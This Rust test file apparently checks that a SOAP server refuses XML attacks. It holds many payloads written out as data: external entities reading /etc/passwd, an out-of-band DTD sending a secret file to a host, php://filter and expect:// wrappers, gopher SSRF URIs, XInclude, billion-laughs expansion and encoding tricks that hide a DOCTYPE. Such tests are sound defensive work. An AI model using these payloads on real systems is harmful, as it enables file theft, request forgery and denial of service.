//! Documents that want the server to fetch or to unfold something: nothing of that is done.

use crate::faults::{ACTION, DESERIALIZATION, GET_ROLE, VERSIONS};
use crate::support::{Response, Soap, USER};
use crate::victim::{REFUSED, Victim, Wanted};
use std::net::TcpListener;
use std::path::Path;
use tempfile::TempDir;

/// What stands in a file of the server's machine.
const SECRET: &str = "OPEN-SESAME-4711";
const XINCLUDE: &str = "http://www.w3.org/2001/XInclude";

/// A file and a host that documents refer to.
struct Outside {
    folder: TempDir,
    host: TcpListener,
}

impl Outside {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("secret.txt"), SECRET).unwrap();
        let outside = Self {
            folder,
            host: TcpListener::bind("127.0.0.1:0").unwrap(),
        };
        let subset = format!(
            "<!ENTITY % file SYSTEM '{}'><!ENTITY e '{SECRET}'>\
             <!ENTITY % send \"<!ENTITY &#37; go SYSTEM '{}?%file;'>\">%send;%go;",
            outside.file("secret.txt"),
            outside.url()
        );
        std::fs::write(outside.folder.path().join("evil.dtd"), subset).unwrap();
        outside.host.set_nonblocking(true).unwrap();
        outside
    }

    fn file(&self, name: &str) -> String {
        let path: &Path = self.folder.path();
        format!("file://{}", path.join(name).display())
    }

    fn url(&self) -> String {
        format!("http://{}/evil.dtd", self.host.local_addr().unwrap())
    }

    /// That nothing of it has come to an answer, and nobody has called.
    #[track_caller]
    fn is_untouched(&self, response: &Response) {
        for text in [SECRET, "root:", "127.0.0.1"] {
            assert!(!response.body.contains(text), "{}", response.body);
        }
        assert!(self.host.accept().is_err(), "the server has called");
    }

    /// Document types that declare the entity `e`, one way or another.
    fn document_types(&self) -> Vec<String> {
        let (file, dtd, url) = (self.file("secret.txt"), self.file("evil.dtd"), self.url());
        let mut all: Vec<_> = [
            &file,
            &url,
            "file:///etc/passwd",
            "secret.txt",
            "/etc/passwd",
        ]
        .into_iter()
        .flat_map(|at| {
            [
                format!("<!DOCTYPE s:Envelope [<!ENTITY e SYSTEM \"{at}\">]>"),
                format!("<!DOCTYPE s:Envelope [<!ENTITY e PUBLIC 'x' '{at}'>]>"),
                format!("<!DOCTYPE s:Envelope SYSTEM '{at}'>"),
                format!("<!DOCTYPE s:Envelope PUBLIC '-//x//y' \"{at}\" []>"),
                format!("<!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM '{at}'> %p;]>"),
                format!(
                    "<!DOCTYPE s:Envelope [<!ENTITY % f SYSTEM '{at}'>\
                         <!ENTITY % d SYSTEM '{dtd}'> %d; %f;]>"
                ),
                format!(
                    "<!DOCTYPE s:Envelope [<!NOTATION n SYSTEM '{at}'>\
                         <!ENTITY e SYSTEM '{at}' NDATA n>]>"
                ),
                format!("<?xml-stylesheet type='text/xsl' href='{at}'?>"),
            ]
        })
        .collect();
        all.extend(
            [
                "jar:file:///tmp/x.jar!/y",
                "php://filter/convert.base64-encode/resource=/etc/passwd",
                "expect://id",
                "ftp://127.0.0.1:1/x",
                "netdoc:///etc/passwd",
                "gopher://127.0.0.1:1/x",
                "data:,OPEN-SESAME-4711",
            ]
            .map(|at| format!("<!DOCTYPE s:Envelope [<!ENTITY e SYSTEM \"{at}\">]>")),
        );
        all.extend(
            [
                "<!DOCTYPE s:Envelope>",
                "<!DOCTYPE s:Envelope []>",
                "<!doctype s:Envelope>",
                "<!DOCTYPE s:Envelope [<!ENTITY e '12'>]>",
                "<!DOCTYPE s:Envelope [<!ENTITY % e '12'>%e;]>",
                "<!DOCTYPE s:Envelope [<!ATTLIST RoleId i:nil CDATA 'true'>]>",
                "<!DOCTYPE s:Envelope [<!ATTLIST s:Envelope xmlns CDATA #FIXED 'urn:x'>]>",
                "<!DOCTYPE s:Envelope [<!ELEMENT RoleId ANY><!-- ]> --><?x ]>?>]>",
                "<!DOCTYPE s:Envelope [<!ENTITY amp '12'><!ENTITY lt '&#38;#60;'>]>",
                "<!-- --><!DOCTYPE s:Envelope><!-- -->",
                "<!ENTITY e '12'>",
            ]
            .map(str::to_owned),
        );
        all
    }
}

#[test]
fn document_types_and_what_they_point_at_are_refused() {
    let (victim, outside) = (Victim::start(), Outside::new());
    for document_type in outside.document_types() {
        for soap in VERSIONS {
            let good = victim.good(soap);
            let inside = good.replacen("<RoleId>", &format!("{document_type}<RoleId>"), 1);
            for message in [
                format!("{document_type}{}", good.replace(">12<", ">&e;<")),
                format!("<?xml version='1.0'?>\n{document_type}{good}"),
                inside,
                format!("{good}{document_type}"),
            ] {
                let response = victim.answers(soap, message, REFUSED);
                outside.is_untouched(&response);
            }
        }
    }
    victim.survived(16);
}

fn utf16(text: &str, mark: bool, unit: fn(u16) -> [u8; 2]) -> Vec<u8> {
    let mark = mark.then_some('\u{feff}');
    let text: String = mark.into_iter().chain(text.chars()).collect();
    text.encode_utf16().flat_map(unit).collect()
}

#[test]
fn no_encoding_hides_a_document_type() {
    let (victim, outside) = (Victim::start(), Outside::new());
    let in_charset = |charset: &str, message: &[u8]| {
        let content_type = format!("Content-Type: text/xml{charset}");
        victim.at_once(|| victim.request("POST", USER, &[&content_type], message))
    };
    for document_type in outside.document_types() {
        let good = victim.good(Soap::V11).replace(">12<", ">&e;<");
        let text = format!("{document_type}{good}");
        let named = format!("<?xml version='1.0' encoding='UTF-16'?>{text}");
        for (charset, message) in [
            ("", format!("\u{feff}{text}").into_bytes()),
            ("", utf16(&text, true, u16::to_le_bytes)),
            ("", utf16(&named, true, u16::to_be_bytes)),
            ("", utf16(&named, false, u16::to_be_bytes)),
            ("", utf16(&text, false, u16::to_le_bytes)),
            (";charset=utf-16le", utf16(&text, false, u16::to_le_bytes)),
            (";charset=utf-16", utf16(&named, false, u16::to_le_bytes)),
            (";charset=utf-8", utf16(&named, true, u16::to_le_bytes)),
        ] {
            let response = in_charset(charset, &message);
            assert_eq!(response.status, 500, "{text}");
            outside.is_untouched(&response);
        }
    }
    // Encodings in which `<!DOCTYPE` looks like something else.
    let good = victim.good(Soap::V11);
    let utf7 = "+ADwAIQ-DOCTYPE s:Envelope SYSTEM 'x'+AD4-";
    let utf32: Vec<_> = good
        .chars()
        .flat_map(|c| u32::from(c).to_be_bytes())
        .collect();
    for (charset, message, status) in [
        (
            "",
            format!("<?xml version='1.0' encoding='UTF-7'?>{utf7}{good}").into_bytes(),
            415,
        ),
        (";charset=utf-7", format!("{utf7}{good}").into_bytes(), 415),
        (";charset=utf-32", utf32.clone(), 415),
        ("", utf32, 500),
        (
            "",
            format!("<?xml version='1.0' encoding='IBM037'?>{good}").into_bytes(),
            415,
        ),
        (";charset=ibm037", vec![0x4c, 0x6f, 0xa7, 0x94, 0x93], 415),
        ("", vec![0x4c, 0x6f, 0xa7, 0x94, 0x93], 500),
        (
            "",
            [&b"\x2b\x2f\x76\x38\x2d"[..], good.as_bytes()].concat(),
            500,
        ),
    ] {
        let response = in_charset(charset, &message);
        assert_eq!(response.status, status, "{charset}");
        outside.is_untouched(&response);
    }
    victim.survived(16);
}

#[test]
fn entities_are_not_unfolded() {
    let victim = Victim::start();
    let laughs: String = (1..20)
        .map(|level| {
            let before = format!("&l{};", level - 1);
            format!("<!ENTITY l{level} '{}'>", before.repeat(10))
        })
        .collect();
    let parameters: String = (1..20)
        .map(|level| {
            let before = format!("&#37;l{};", level - 1);
            format!("<!ENTITY % l{level} '{}'>", before.repeat(10))
        })
        .collect();
    let long = "x".repeat(50_000);
    for (declarations, text) in [
        (format!("<!ENTITY l0 'ha'>{laughs}"), "&l19;".to_owned()),
        (
            format!("<!ENTITY % l0 'ha'>{parameters}%l19;"),
            String::new(),
        ),
        (format!("<!ENTITY q '{long}'>"), "&q;".repeat(200_000)),
        (
            "<!ENTITY a '&b;'><!ENTITY b '&a;'>".to_owned(),
            "&a;".to_owned(),
        ),
        ("<!ENTITY a '<b>&a;</b>'>".to_owned(), "&a;".to_owned()),
        ("<!ENTITY e ''>".repeat(100_000), "&e;".to_owned()),
    ] {
        for soap in VERSIONS {
            let good = victim.good(soap).replace(">12<", &format!(">{text}<"));
            let message = format!("<!DOCTYPE x [{declarations}]>{good}");
            victim.answers(soap, message, REFUSED);
            let attribute = good.replacen("<RoleId", &format!("<RoleId x='{text}&l19;'"), 1);
            victim.answers(soap, attribute, REFUSED);
        }
    }
    victim.survived(24);
}

#[test]
fn undeclared_entities_are_refused_and_others_cost_what_they_are_long() {
    let victim = Victim::start();
    let long = format!("&{};", "e".repeat(1_000_000));
    for reference in [
        "&e;", "&nbsp;", "&AMP;", "&;", "&", "& ;", "&e", "&#;", "&%e;", "%e;&e;", &long,
    ] {
        for soap in VERSIONS {
            let message = victim.good(soap).replace(">12<", &format!(">{reference}<"));
            victim.answers(soap, message, REFUSED);
        }
    }
    // As many as fit, of those that need no declaration; the number is wrong, but can be read.
    for reference in ["&amp;", "&#x41;", "&#0000000000000000000000065;"] {
        let many = reference.repeat(2_000_000 / reference.len());
        let message = victim.good(Soap::V12).replace(">12<", &format!(">{many}<"));
        victim.answers(Soap::V12, message, Wanted::Fault(&DESERIALIZATION));
    }
    victim.survived(24);
}

#[test]
fn nothing_is_included_from_elsewhere() {
    let (victim, outside) = (Victim::start(), Outside::new());
    for at in [
        outside.file("secret.txt"),
        outside.url(),
        "file:///etc/passwd".into(),
    ] {
        let include = format!("<xi:include xmlns:xi='{XINCLUDE}' href='{at}' parse='text'/>");
        let plain = format!("<include xmlns='{XINCLUDE}' href='{at}'/>");
        for soap in VERSIONS {
            let role = "<RoleId>12</RoleId>";
            for include in [&include, &plain] {
                for (content, wanted) in [
                    // A value holds no elements.
                    (
                        GET_ROLE.replace(">12<", &format!(">{include}<")),
                        Wanted::Fault(&DESERIALIZATION),
                    ),
                    // An unknown member is passed over.
                    (
                        GET_ROLE.replace(role, &format!("{include}{role}")),
                        Wanted::Role,
                    ),
                    (
                        GET_ROLE.replace("<GetRole>", &format!("{include}<GetRole>")),
                        Wanted::Fault(&ACTION),
                    ),
                    (format!("{include}{GET_ROLE}"), REFUSED),
                ] {
                    let response = victim.answers(soap, victim.message(soap, &content), wanted);
                    outside.is_untouched(&response);
                }
                let block =
                    victim
                        .good(soap)
                        .replacen("<s:Header>", &format!("<s:Header>{include}"), 1);
                outside.is_untouched(&victim.answers(soap, block, Wanted::Role));
            }
            // Where a schema is said to be, or a base, nobody looks.
            let hints = format!(
                "<GetRole xmlns:i='http://www.w3.org/2001/XMLSchema-instance' xml:base='{at}' \
                 i:schemaLocation='urn:x {at}' i:noNamespaceSchemaLocation='{at}'>"
            );
            let message = victim.good(soap).replacen("<GetRole>", &hints, 1);
            outside.is_untouched(&victim.answers(soap, message, Wanted::Role));
        }
    }
    victim.survived(16);
}
